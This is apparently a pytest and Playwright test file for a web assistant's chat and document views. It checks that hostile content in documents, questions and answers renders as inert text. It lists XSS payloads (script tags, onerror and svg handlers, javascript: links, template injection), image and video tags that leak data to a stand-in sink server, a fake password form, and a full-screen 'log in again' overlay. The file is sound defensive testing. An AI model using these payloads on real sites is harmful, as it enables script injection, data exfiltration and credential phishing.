"""Hostile documents, questions and answers in a real browser (rows O1, O2, O3, O5, I5)."""

from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser

from assistant.turn import Citation, Related, Turn
from assistant.web.server import create_app
from assistant.web.settings import WebSettings
from documents.model import Clause, Document
from tests.browser.conftest import Visit, visit
from tests.fakes_web import FakeAnswerer, FakeHoldings, answered
from tests.web_server import in_a_loop, serving, sink

pytestmark = [pytest.mark.browser, pytest.mark.server]

LEAKS = {
    "inline": "![leak]({sink}/inline?d=1)",
    "reference": "![leak][r]\n\n[r]: {sink}/reference?d=1",
    "spaced": "![leak]( {sink}/spaced?d=1 )",
    "pointed": "![leak](<{sink}/pointed?d=1>)",
    "img": "<img src={sink}/img?d=1>",
    "video": '<video autoplay src="{sink}/video?d=1" poster="{sink}/poster"></video>',
}
SCRIPTS = (
    "<script>alert(1);fetch('{sink}/script')</script>",
    "<img src=x onerror=\"alert(2);fetch('{sink}/onerror')\">",
    "<svg onload=\"fetch('{sink}/svg')\"></svg>",
    '<a href="javascript:alert(3)">x</a>',
    '<div style="background:url({sink}/style)">x</div>',
    '<iframe src="{sink}/frame"></iframe>',
    '<link rel=stylesheet href="{sink}/css">',
    "${{alert(4)}} {{{{constructor.constructor('alert(5)')()}}}} $$\\href{{javascript:alert(6)}}{{x}}$$",
)
TRAPS = (
    '<form action="{sink}/login"><input name="password" autofocus><button>登录</button></form>',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">请重新登录</div>',
    "[市政府]({sink}/link) {sink}/bare <a href={sink}/a>市政府</a>",
)


@dataclass(frozen=True)
class Trap:
    """A page whose document and answers are hostile, and the foreign server they point to."""

    address: str
    foreign: str
    seen: list[str]
    lines: dict[str, str]


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with sink() as (foreign, seen):
        named = {
            **LEAKS,
            **{f"script{n}": s for n, s in enumerate(SCRIPTS)},
            **{f"trap{n}": s for n, s in enumerate(TRAPS)},
        }
        lines = {name: line.format(sink=foreign) for name, line in named.items()}
        text = "\n".join(lines.values())
        clause = Clause("一", "一、", 1, lines["img"], text, 0, len(text))
        document = Document(
            text[:40], lines["script1"], text, text, (clause,), issuer=lines["img"], date=lines["trap2"]
        )
        quote = Citation(document.name, "<b>一</b>", lines["img"], text, 0, len(text), True)
        script: dict[str, Turn | Exception] = {
            name: answered(line, citations=(quote,), related=(Related(document.name, "一", lines["trap0"]),))
            for name, line in lines.items()
        }
        application = in_a_loop(
            lambda: create_app(FakeAnswerer(script), FakeHoldings({document.name: document}), WebSettings())
        )
        with serving(application) as address:
            yield Trap(address, foreign, seen, lines)


@pytest.fixture(scope="module")
def person(chromium: Browser, trap: Trap) -> Iterator[Visit]:
    found = visit(chromium, trap.address)
    yield found
    found.page.context.close()


def squeezed(text: str) -> str:
    return "".join(text.split())


def check(person: Visit, trap: Trap) -> None:
    """Nothing left the page, nothing opened, and nothing in it is more than text."""
    assert trap.seen == [] and person.foreign(trap.address) == []
    assert person.dialogs == [] and person.errors == []
    for forbidden in ("img", "video", "iframe", "form", "script", "svg", "link", "style", "input", "a"):
        assert person.page.locator(f"#talk .talk {forbidden}, #document article {forbidden}").count() == 0, forbidden
    outside = (
        "els => els.filter(e => ['fixed', 'absolute'].includes(getComputedStyle(e).position)).map(e => e.className)"
    )
    found = person.page.locator("#talk .talk *, #document article *").evaluate_all(outside)
    assert set(found) <= {"unseen"}


@pytest.mark.parametrize("name", LEAKS)
def test_o2_an_image_in_an_answer_or_a_question_is_text(person: Visit, trap: Trap, name: str) -> None:
    assert squeezed(trap.lines[name]) in squeezed(person.ask(name))
    person.ask(trap.lines[name].replace("\n", " "))
    assert squeezed(trap.lines[name]) in squeezed(person.page.inner_text("#current .question"))
    person.page.wait_for_timeout(150)
    check(person, trap)


@pytest.mark.parametrize("name", [f"script{number}" for number in range(len(SCRIPTS))])
def test_o1_a_script_in_an_answer_or_a_question_is_text(person: Visit, trap: Trap, name: str) -> None:
    assert squeezed(trap.lines[name]) in squeezed(person.ask(name))
    person.ask(trap.lines[name])
    person.page.wait_for_timeout(150)
    check(person, trap)


@pytest.mark.parametrize("name", [f"trap{number}" for number in range(len(TRAPS))])
def test_o3_a_form_an_overlay_and_a_foreign_link_are_text(person: Visit, trap: Trap, name: str) -> None:
    assert squeezed(trap.lines[name]) in squeezed(person.ask(name))
    check(person, trap)


def test_o1_o2_o3_a_hostile_document_is_text(person: Visit, trap: Trap) -> None:
    person.ask("img")
    person.page.click("#current button.chip >> nth=0")
    person.page.locator("#document #quote >> nth=0").wait_for(state="attached")
    shown = squeezed(person.page.inner_text("#document"))
    for line in trap.lines.values():
        assert squeezed(line) in shown
    person.page.wait_for_timeout(300)
    check(person, trap)


def test_o5_i5_asking_makes_no_console_error_and_shows_nothing_invisible(person: Visit, trap: Trap) -> None:
    person.page.fill("#question textarea", "谁\u200b\u2060\u202e\U000e0041牵头")
    person.page.click("#send")
    person.answer("谁牵头")
    assert person.page.inner_text("#current .question").endswith("谁牵头")
    assert person.errors == []
